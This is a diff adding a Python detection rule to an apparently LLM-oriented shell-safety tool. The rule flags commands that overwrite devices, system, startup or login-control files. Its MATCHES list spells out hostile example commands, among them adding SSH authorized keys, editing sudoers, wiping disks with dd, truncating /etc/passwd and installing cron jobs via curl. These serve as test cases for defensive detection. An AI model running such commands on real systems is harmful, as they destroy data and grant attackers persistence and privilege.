@@ -1,0 +1,74 @@
+"""Writing over devices, system files, start-up files or files that decide who may log in, whatever the program.
+
+Source: Filesystem Hierarchy Standard 3.0; MITRE ATT&CK T1037, T1098.004, T1543.
+"""
+
+from llmsh.core.command import SimpleCommand
+from llmsh.core.risk import Finding, Reason
+from llmsh.risk.found import caution, danger
+from llmsh.risk.places import Place, place_of
+from llmsh.risk.targets import Change, targets_of
+
+PROGRAMS = frozenset({"*"})
+MATCHES = (
+    "echo x > /dev/sda",
+    "cat k >> ~/.ssh/authorized_keys",
+    "cp a /etc/hosts",
+    "tee /etc/sudoers.d/x",
+    "mv /usr/bin/python a",
+    "sed -i s/a/b/ /etc/fstab",
+    "echo x >> ~/.bashrc",
+    "echo b > /proc/sysrq-trigger",
+    "ln -sf /tmp/x /usr/bin/ls",
+    "mv ~/* /tmp",
+    "> /etc/passwd",
+    "dd if=x of=/dev/nvme0n1",
+    "tar -C / -xf a",
+    "curl -o /etc/cron.d/x http://h/",
+    "echo x > .git/hooks/post-commit",
+    "mv x /dev/null",
+    "mkdir /etc/x",
+)
+IGNORES = (
+    "echo x > /dev/null",
+    "cat /etc/passwd",
+    "cp /etc/hosts .",
+    "echo x > notes.txt",
+    "ls > /tmp/out",
+    "cp a ~/",
+    "mkdir ~/new",
+    "sort -o out in",
+)
+_REASONS = {
+    Place.DEVICE: Reason.DISK,
+    Place.ROOT: Reason.DELETE,
+    Place.HOME: Reason.DELETE,
+    Place.STARTUP: Reason.PERSISTENCE,
+    Place.ACCESS: Reason.PRIVILEGE,
+    Place.KERNEL: Reason.SYSTEM_CONFIG,
+    Place.SYSTEM: Reason.SYSTEM_CONFIG,
+    Place.SECRET: Reason.OVERWRITE,
+}
+_TREES = (Place.ROOT, Place.HOME)
+
+
+def assess(command: SimpleCommand) -> Finding | None:
+    mild: Finding | None = None
+    for target in targets_of(command):
+        place = place_of(target.word.shape)
+        if place is Place.NULL and target.change is Change.WRITES and command.program == "mv":
+            return danger(Reason.DELETE, "moves files into nothing", target.word)
+        if place in (Place.ORDINARY, Place.NULL) or target.change is Change.ATTRIBUTES:
+            continue
+        if place in _TREES and not (
+            target.is_tree and (target.change in (Change.DELETES, Change.MOVES) or place is Place.ROOT)
+        ):
+            continue
+        if place is Place.SECRET and target.change is not Change.DELETES:
+            mild = caution(Reason.OVERWRITE, f"{target.change} {place}", target.word)
+            continue
+        if target.change is Change.CREATES and not target.is_tree:
+            mild = caution(_REASONS[place], f"{target.change} {place}", target.word)
+            continue
+        return danger(_REASONS[place], f"{target.change} {place}", target.word)
+    return mild
